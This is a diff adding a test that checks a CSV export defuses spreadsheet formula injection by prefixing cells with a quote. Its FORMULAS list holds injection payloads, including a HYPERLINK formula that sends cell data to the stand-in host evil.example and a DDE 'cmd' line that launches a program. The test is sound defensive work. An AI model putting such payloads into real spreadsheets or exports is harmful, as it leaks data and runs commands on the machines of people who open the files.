@@ -88,3 +88,28 @@ async def test_csv_export_has_one_row_per_event(restaurant: WorkerSpec, tmp_path
 def test_a_bad_since_is_a_clear_error(tmp_path: Path) -> None:
     result = run_export(str(tmp_path / "db"), "--since", "last tuesday")
     assert result.returncode == 2 and "not an ISO-8601 time" in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "   =1+1", "\n=1+1"]
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(restaurant: WorkerSpec, tmp_path: Path) -> None:
+    url = str(tmp_path / "db")
+    async with engine_for(restaurant, url) as engine:
+        talk = Talk(engine, "formulas")
+        for line in FORMULAS:
+            await talk.say(line)
+        stored = [e.text for e in await engine.store.events("formulas") if e.direction == "in"]
+    out = tmp_path / "export.csv"
+    result = run_export(url, "--format", "csv", "--output", str(out))
+    assert result.returncode == 0, result.stderr
+    with out.open(newline="", encoding="utf-8") as f:  # CR inside a quoted cell stays a CR
+        rows = list(csv.DictReader(f))
+    said = [r["text"] for r in rows if r["direction"] == "in"]
+    # Each starts with a single quote, so a spreadsheet shows it as text; the rest is as said.
+    assert said == ["'" + text for text in stored] and len(said) == len(FORMULAS)
+    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+    # JSON lines are data, not a spreadsheet: the texts stay as stored.
+    turns = json.loads(run_export(url, "--format", "jsonl").stdout)["turns"]
+    assert [t["text"] for t in turns if t["role"] == "user"] == stored
